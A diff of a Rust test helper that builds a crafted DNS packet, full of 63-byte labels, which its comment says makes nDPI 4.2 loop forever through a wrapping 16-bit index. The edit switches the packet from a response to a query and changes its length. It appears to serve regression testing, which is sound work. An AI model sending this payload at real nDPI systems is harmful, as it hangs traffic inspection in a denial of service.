@@ -33,13 +33,13 @@ pub(crate) fn dns_question(name: &str) -> Vec<u8> {
     question
 }
 
-/// An answer of DNS that makes nDPI 4.2 loop for ever: so many labels of 63 bytes that a 16-bit index wraps.
+/// A message of DNS that makes nDPI 4.2 loop for ever: so many labels of 63 bytes that a 16-bit index wraps.
 pub(crate) fn endless_dns() -> Vec<u8> {
-    let mut payload = vec![0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
-    while payload.len() < 65_480 {
+    let mut payload = vec![0x12, 0x34, 0x01, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    while payload.len() < 65_490 {
         payload.push(63);
         payload.extend([b'a'; 63]);
     }
-    payload.truncate(65_480);
+    payload.truncate(65_490);
     udp(53, 40_000, &payload)
 }
